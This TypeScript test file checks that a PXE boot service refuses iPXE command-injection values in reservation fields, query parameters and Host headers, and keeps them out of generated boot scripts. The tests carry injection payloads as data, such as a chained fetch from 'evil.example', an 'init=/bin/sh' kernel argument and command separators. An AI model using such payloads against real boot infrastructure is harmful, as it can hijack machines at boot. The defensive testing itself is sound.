/**
 * iPXE has no quoting: whitespace splits arguments, `#` starts a comment, `${…}` expands
 * settings and `||`, `&&`, `;` chain commands. These tests try to get iPXE commands (or extra
 * kernel arguments) into a machine's script through every reservation field, through the
 * query of /ipxe and through the Host header, and check that nothing gets through.
 */
import t from 'tap';
import type { LightMyRequestResponse } from 'fastify';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Mac } from '../../src/machines/mac.js';
import type { Machine } from '../../src/machines/model.js';
import { testApp, type ErrorBody, type TestApp, type EventBody } from '../helpers/app.js';

/** The `t` of a subtest. */
type Tap = Parameters<Parameters<typeof t.test>[0]>[0];

const MAC = '52:54:00:ab:cd:ef';
const NEW_MAC = '52:54:00:ab:cd:99';
const HUB = 'https://hub.example.com/api/assisted-install/v2/infra-envs/1234/downloads/files?file_name=ipxe-script&api_key=abc.def';
/** Every payload carries this marker: a script that contains it has been injected into. */
const MARK = 'pwned';

/** What the fields hold before the attacks; every attack leaves them exactly so. */
const ORIGINAL = {
  profile: 'precache-assisted',
  hostname: 'sno-1',
  ip: '10.77.0.50',
  labels: { site: 'f1' },
  assisted: { ipxeScriptUrl: HUB },
  precache: { release: 'quay.io/openshift-release-dev/ocp-release:4.14.8-x86_64', disk: '/dev/sda', sizeGiB: 100, images: ['quay.io/example/extra:1'] },
};

/**
 * Hostile tails, appended to a valid value: each would end the command, start a new one,
 * comment out the rest, expand a setting or add an argument if it reached a script as is.
 */
const TAILS: { name: string; tail: string }[] = [
  { name: 'newline', tail: `\nchain http://evil.example/${MARK}` },
  { name: 'carriage return', tail: `\rchain http://evil.example/${MARK}` },
  { name: 'CRLF', tail: `\r\nchain http://evil.example/${MARK}` },
  { name: 'space', tail: ` ${MARK}` },
  { name: 'tab', tail: `\t${MARK}` },
  { name: '#', tail: `#${MARK}` },
  { name: 'spaced #', tail: ` #${MARK}` },
  { name: '||', tail: `||${MARK}` },
  { name: 'spaced ||', tail: ` || chain http://evil.example/${MARK}` },
  { name: '&&', tail: ` && chain http://evil.example/${MARK}` },
  { name: ';', tail: `;${MARK}` },
  { name: 'spaced ;', tail: ` ; chain http://evil.example/${MARK}` },
  { name: '${net0/mac}', tail: `\${net0/mac}${MARK}` },
  { name: 'nested ${}', tail: `\${net\${idx}/mac}${MARK}` },
  { name: '$(reboot)', tail: `$(reboot)${MARK}` },
  { name: 'double quote', tail: `"${MARK}` },
  { name: 'single quote', tail: `'${MARK}` },
  { name: 'backslash', tail: `\\${MARK}` },
  { name: 'NUL', tail: `\u0000${MARK}` },
  { name: 'U+2028 line separator', tail: `\u2028${MARK}` },
  { name: 'U+2029 paragraph separator', tail: `\u2029${MARK}` },
  { name: 'U+0085 next line', tail: `\u0085${MARK}` },
  { name: 'vertical tab', tail: `\u000b${MARK}` },
];

/** `&&` without whitespace: rejected in every field but the URL (see the URL test below). */
const AMPERSANDS = { name: '&& without spaces', tail: `&&${MARK}` };

interface Field {
  name: string;
  set: (tail: string) => Record<string, unknown>;
}

/** Every reservation field that reaches, or could reach, a script. */
const FIELDS: Field[] = [
  { name: 'hostname', set: (x) => ({ hostname: `sno-1${x}` }) },
  { name: 'assisted.ipxeScriptUrl', set: (x) => ({ assisted: { ipxeScriptUrl: `${HUB}${x}` } }) },
  { name: 'ip', set: (x) => ({ ip: `10.77.0.51${x}` }) },
  { name: 'label value', set: (x) => ({ labels: { site: `f1${x}` } }) },
  { name: 'label key', set: (x) => ({ labels: { [`site${x}`]: 'f1' } }) },
  { name: 'precache.disk', set: (x) => ({ precache: { ...ORIGINAL.precache, disk: `/dev/sdb${x}` } }) },
  { name: 'precache.release', set: (x) => ({ precache: { ...ORIGINAL.precache, release: `quay.io/openshift-release-dev/ocp-release:4.14.9${x}` } }) },
  { name: 'precache.images', set: (x) => ({ precache: { ...ORIGINAL.precache, images: [`quay.io/example/extra:2${x}`] } }) },
  { name: 'precache.liveProfile', set: (x) => ({ precache: { ...ORIGINAL.precache, liveProfile: `rhcos-live${x}` } }) },
  { name: 'profile', set: (x) => ({ profile: `assisted${x}` }) },
  { name: 'macs', set: (x) => ({ macs: [`52:54:00:ab:cd:f0${x}`] }) },
  { name: 'uuid', set: (x) => ({ uuid: `4c4c4544-0042-3510-8052-b4c04f333532${x}` }) },
];

const path = (mac: string, rest = '') => `/api/v1/machines/${mac}${rest}`;

async function getMachine(ta: TestApp, mac: string): Promise<LightMyRequestResponse> {
  return ta.app.inject({ method: 'GET', url: path(mac), headers: ta.auth });
}

async function events(ta: TestApp, mac: string): Promise<EventBody[]> {
  const res = await ta.app.inject({ method: 'GET', url: path(mac, '/events'), headers: ta.auth });
  return res.json<{ events: EventBody[] }>().events;
}

/** From the machine's own address, its reservation's ip (boot.verifyClient). */
async function ipxe(ta: TestApp, query: string, headers: Record<string, string> = {}): Promise<LightMyRequestResponse> {
  return ta.app.inject({ method: 'GET', url: `/ipxe?${query}`, headers, remoteAddress: '10.77.0.50' });
}

/** A script is clean when it has no marker and every line is one the renderer writes. */
function assertClean(tt: Tap, script: string, what: string): void {
  tt.notOk(script.includes(MARK), `${what}: no payload in the script`);
  tt.notOk(script.includes('evil'), `${what}: no foreign host in the script`);
  tt.notOk(/[\u0000\u000b\u000c\r\u0085\u2028\u2029]/.test(script), `${what}: no stray line breaks or control bytes`);
  for (const line of script.split('\n')) {
    tt.notOk(/^\s*chain\s+http:\/\/evil/.test(line), `${what}: no injected chain line`);
  }
}

t.test('every hostile value in every reservation field is refused with 400, stored nowhere, and never reaches /ipxe', async (t) => {
  const ta = await testApp(t);
  const created = await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: ORIGINAL });
  t.equal(created.statusCode, 201, created.body);
  const before = (await getMachine(ta, MAC)).json<Machine>();
  const eventsBefore = (await events(ta, MAC)).length;

  for (const field of FIELDS) {
    for (const { name, tail } of [...TAILS, ...(field.name === 'assisted.ipxeScriptUrl' ? [] : [AMPERSANDS])]) {
      const body = { ...ORIGINAL, ...field.set(tail) };
      const what = `${field.name} with ${name}`;

      const replace = await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: body });
      t.equal(replace.statusCode, 400, `PUT ${what}: 400 (${replace.body.slice(0, 200)})`);
      const e = replace.json<ErrorBody>();
      t.ok(['invalid_request', 'unknown_profile'].includes(e.error), `PUT ${what}: code ${e.error}`);
      t.type(e.message, 'string');
      t.notOk(e.message.includes('\n'), `PUT ${what}: the message is one line`);

      const create = await ta.app.inject({ method: 'PUT', url: path(NEW_MAC), headers: ta.auth, payload: body });
      t.equal(create.statusCode, 400, `PUT new machine ${what}: 400`);

      for (const contentType of ['application/json', 'application/merge-patch+json']) {
        const res = await ta.app.inject({
          method: 'PATCH',
          url: path(MAC),
          headers: { ...ta.auth, 'content-type': contentType },
          payload: JSON.stringify(field.set(tail)),
        });
        t.equal(res.statusCode, 400, `PATCH (${contentType}) ${what}: 400 (${res.body.slice(0, 200)})`);
      }
    }
  }

  t.same((await getMachine(ta, MAC)).json<Machine>(), before, 'the machine is exactly as before, updatedAt included');
  t.equal((await getMachine(ta, NEW_MAC)).statusCode, 404, 'no refused create stored a machine');
  t.equal((await events(ta, MAC)).length, eventsBefore, 'no refused request left an event');

  // The fields do reach the scripts: precache stage (hostname and ip as a kernel argument) ...
  let res = await ipxe(ta, `mac=${MAC}`);
  t.equal(res.statusCode, 200);
  t.match(res.body, /ip=10\.77\.0\.50::10\.77\.0\.1:255\.255\.255\.0:sno-1::none:10\.77\.0\.1 /, 'hostname and ip are in the kernel line');
  t.match(res.body, /\/assets\/rhcos-live\/kernel /);
  assertClean(t, res.body, 'precache script');
  const done = await ta.app.inject({ method: 'POST', url: path(MAC, '/events'), headers: ta.auth, payload: { type: 'precache-done' } });
  t.equal(done.statusCode, 201);
  // ... and install stage (the assisted URL).
  res = await ipxe(ta, `mac=${MAC}`);
  t.ok(res.body.includes(`chain --replace --autofree ${HUB} || exit\n`), 'the assisted URL is chained');
  assertClean(t, res.body, 'install script');
});

t.test('a URL may keep & in its query: no whitespace, so iPXE sees one argument', async (t) => {
  // iPXE splits a command line on whitespace and treats `&&` only as a whole token: inside a
  // URL it is query text. The URL pattern keeps `&` (query strings need it) and refuses the
  // whitespace that would make `&&` a token.
  const ta = await testApp(t);
  const url = `${HUB}&&x=1`;
  const res = await ta.app.inject({
    method: 'PUT',
    url: path(MAC),
    headers: ta.auth,
    payload: { profile: 'assisted', assisted: { ipxeScriptUrl: url }, ip: '10.77.0.50' },
  });
  t.equal(res.statusCode, 201, res.body);
  const script = (await ipxe(ta, `mac=${MAC}`)).body;
  const chain = script.split('\n').find((l) => l.startsWith('chain '));
  t.equal(chain, `chain --replace --autofree ${url} || exit`, 'one chain command, the URL one token');
  t.same(chain?.split(/\s+/), ['chain', '--replace', '--autofree', url, '||', 'exit']);
});

t.test('the renderer refuses a value that slipped into the store unchecked', async (t) => {
  // Defence in depth: a row written behind the API's back (another tool, a shared database)
  // must not make the renderer write whitespace-split extra arguments or commands.
  // verifyClient off: a broken ip would otherwise withhold the script before it is rendered.
  const ta = await testApp(t, { config: { boot: { verifyClient: 'off' } } });
  const put = await ta.app.inject({
    method: 'PUT',
    url: path(MAC),
    headers: ta.auth,
    payload: { profile: 'precache-assisted', assisted: { ipxeScriptUrl: HUB }, ip: '10.77.0.50', hostname: 'sno-1' },
  });
  t.equal(put.statusCode, 201);
  const cases: { name: string; change: (m: Machine) => Machine }[] = [
    { name: 'hostname with newline', change: (m) => ({ ...m, hostname: `sno-1\nchain http://evil.example/${MARK}` }) },
    { name: 'hostname with space', change: (m) => ({ ...m, hostname: `sno-1 init=/bin/sh ${MARK}` }) },
    { name: 'hostname with tab', change: (m) => ({ ...m, hostname: `sno-1\t${MARK}` }) },
    { name: 'hostname with ${}', change: (m) => ({ ...m, hostname: `sno-1\${net0/mac}${MARK}` }) },
    { name: 'ip with space', change: (m) => ({ ...m, ip: `10.77.0.50 ${MARK}` }) },
    {
      name: 'assisted URL with newline',
      change: (m) => ({ ...m, state: 'precached', assisted: { ipxeScriptUrl: `${HUB}\nchain http://evil.example/${MARK}` } }),
    },
    { name: 'assisted URL with space', change: (m) => ({ ...m, state: 'precached', assisted: { ipxeScriptUrl: `${HUB} ${MARK}` } }) },
  ];
  for (const c of cases) {
    await ta.store.mutateMachine(MAC as Mac, (cur) => {
      if (!cur) throw new Error('machine vanished');
      return { kind: 'save', machine: c.change({ ...cur, hostname: 'sno-1', ip: '10.77.0.50', assisted: { ipxeScriptUrl: HUB }, state: 'registered' }) };
    });
    const res = await ipxe(ta, `mac=${MAC}`);
    t.equal(res.statusCode, 200, `${c.name}: the machine still gets a script`);
    assertClean(t, res.body, c.name);
    t.match(res.body, /cannot render this machine.s boot script/, `${c.name}: the script says why it waits`);
    t.match(res.body, /sleep \d+\n/, `${c.name}: and re-checks`);
    const last = (await events(ta, MAC)).filter((e) => e.type === 'boot-error').at(-1);
    t.ok(last, `${c.name}: a boot-error event`);
    t.match(last?.message ?? '', /refusing to put/, `${c.name}: the event names the refused value`);
  }
});

t.test('hostile query values on /ipxe are dropped; the script stays clean', async (t) => {
  const ta = await testApp(t);
  const hyphen = MAC.replaceAll(':', '-');
  const q = new URLSearchParams({
    mac: hyphen,
    macs: `${hyphen},${MARK} x,\${net0/mac},52-54-00-ab-cd-f0\nchain,`,
    serial: `ABC\nchain http://evil.example/${MARK}\${net0/mac}\r\u0000\u2028`,
    arch: `x86_64 ${MARK}`,
    platform: `efi\n${MARK}`,
    uuid: `4c4c4544-0042-3510-8052-b4c04f333532\n${MARK}`,
  });
  const res = await ipxe(ta, q.toString());
  t.equal(res.statusCode, 200, res.body);
  t.match(res.headers['content-type'], /^text\/plain/);
  t.match(res.body, /^#!ipxe\n/);
  assertClean(t, res.body, 'unknown machine script');

  const m = (await getMachine(ta, MAC)).json<Machine>();
  t.equal(m.state, 'discovered');
  t.same(m.macs, [], 'no garbage MAC recorded');
  t.equal(m.observed.arch, undefined, 'arch with a space dropped');
  t.equal(m.observed.platform, undefined, 'platform with a newline dropped');
  t.equal(m.observed.uuid, undefined, 'uuid with garbage dropped');
  const serial = m.observed.serial ?? '';
  t.notOk(/[^\x20-\x7e]/.test(serial), 'the recorded serial has no control bytes or line breaks');
  t.ok(serial.length <= 64, 'and is bounded');
  t.ok(serial.startsWith('ABC'), 'the printable start of the serial is kept for the inventory');

  // The recorded values never make it into a later script either.
  const again = await ipxe(ta, `mac=${hyphen}`);
  assertClean(t, again.body, 'second script');
  const discovered = (await events(ta, MAC)).find((e) => e.type === 'discovered');
  t.ok(discovered, 'the discovery was recorded');

  // Arch and platform in the right shape are kept, so the drops above are not blanket ones.
  const ok = await ipxe(ta, `mac=${hyphen}&arch=arm64&platform=efi&uuid=4C4C4544-0042-3510-8052-B4C04F333532`);
  t.equal(ok.statusCode, 200);
  const m2 = (await getMachine(ta, MAC)).json<Machine>();
  t.equal(m2.observed.arch, 'arm64');
  t.equal(m2.observed.platform, 'efi');
  t.equal(m2.observed.uuid, '4c4c4544-0042-3510-8052-b4c04f333532');

  for (const mac of [`${hyphen}\nchain http://evil.example/${MARK}`, MARK, `\${net0/mac}`, `${hyphen}%20${MARK}`]) {
    const bad = await ipxe(ta, new URLSearchParams({ mac }).toString());
    t.equal(bad.statusCode, 400, `mac=${JSON.stringify(mac)}: 400`);
    t.match(bad.body, /^#!ipxe\necho edgeboot: \/ipxe needs mac= with a MAC address/);
    assertClean(t, bad.body, `mac=${JSON.stringify(mac)}`);
  }
  const list = await ta.app.inject({ method: 'GET', url: '/api/v1/machines', headers: ta.auth });
  t.same(
    list.json<{ machines: Machine[] }>().machines.map((x) => x.mac),
    [MAC],
    'no machine made from a hostile MAC',
  );
});

t.test('a hostile Host header is not echoed into scripts; the socket address is used instead', async (t) => {
  const ta = await testApp(t);
  t.equal(
    (await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: { profile: 'assisted', assisted: { ipxeScriptUrl: HUB } } })).statusCode,
    201,
  );
  // app.inject has no real socket: the fallback is 127.0.0.1 and the configured port.
  const fallback = 'http://127.0.0.1:8080';
  const hosts = [
    `evil\nchain x`,
    'a b',
    `evil.example/${MARK}`,
    `evil\${net0/mac}`,
    `evil.example:80 || chain http://x/${MARK}`,
    `evil.example#${MARK}`,
    `evil.example:99999999`,
    `evil.example;${MARK}`,
    `[::1]${MARK}`,
  ];
  for (const host of hosts) {
    const entry = await ta.app.inject({ method: 'GET', url: '/boot.ipxe', headers: { host } });
    t.equal(entry.statusCode, 200, `Host ${JSON.stringify(host)}: the entry script is served`);
    t.ok(entry.body.includes(`chain --replace --autofree ${fallback}/ipxe?mac=`), `Host ${JSON.stringify(host)}: the socket address is used`);
    t.notOk(entry.body.includes('evil'), `Host ${JSON.stringify(host)}: not echoed`);
    t.notOk(entry.body.includes(MARK));
    t.notOk(/^chain x/m.test(entry.body), 'no injected line');
    t.notOk(entry.body.includes('a b'), 'no space-split host');

    const boot = await ta.app.inject({ method: 'GET', url: `/api/v1/machines/${MAC}/boot`, headers: { ...ta.auth, host } });
    t.equal(boot.statusCode, 200);
    const b = boot.json<{ scriptUrl: string; entryUrl: string }>();
    t.equal(b.entryUrl, `${fallback}/boot.ipxe`, 'the boot URLs use the fallback too');
    t.equal(b.scriptUrl, `${fallback}/ipxe?mac=52-54-00-ab-cd-ef`);
  }
  // A well-formed Host is used as it is, so the fallback above is a decision, not a constant.
  const good = await ta.app.inject({ method: 'GET', url: '/boot.ipxe', headers: { host: 'edgeboot.lab.example:8080' } });
  t.ok(good.body.includes('chain --replace --autofree http://edgeboot.lab.example:8080/ipxe?mac='));
  const v6 = await ta.app.inject({ method: 'GET', url: '/boot.ipxe', headers: { host: '[fd00::1]:8080' } });
  t.ok(v6.body.includes('chain --replace --autofree http://[fd00::1]:8080/ipxe?mac='));
});

t.test('over a real loopback socket, a hostile Host header falls back to the address the request came in on', async (t) => {
  const ta = await testApp(t);
  await ta.app.listen({ host: '127.0.0.1', port: 0 });
  const addr = ta.app.server.address() as AddressInfo;
  const raw = (host: string) =>
    new Promise<string>((resolve, reject) => {
      const s = connect(addr.port, '127.0.0.1');
      let out = '';
      s.setEncoding('latin1');
      s.on('data', (d: string) => (out += d));
      s.on('end', () => resolve(out));
      s.on('error', reject);
      s.write(`GET /boot.ipxe HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
    });
  for (const host of ['a b', `evil.example/${MARK}`, `evil\${net0/mac}`, 'evil"x']) {
    const res = await raw(host);
    t.match(res, /^HTTP\/1\.1 200 /, `Host ${JSON.stringify(host)}: 200`);
    t.ok(res.includes(`chain --replace --autofree http://127.0.0.1:${addr.port}/ipxe?mac=`), `Host ${JSON.stringify(host)}: the socket address and port`);
    t.notOk(res.includes('evil'), 'not echoed');
    t.notOk(res.includes(MARK));
    t.notOk(res.includes('a b'));
  }
  const good = await raw(`localhost:${addr.port}`);
  t.ok(good.includes(`chain --replace --autofree http://localhost:${addr.port}/ipxe?mac=`), 'a good Host is used');
});
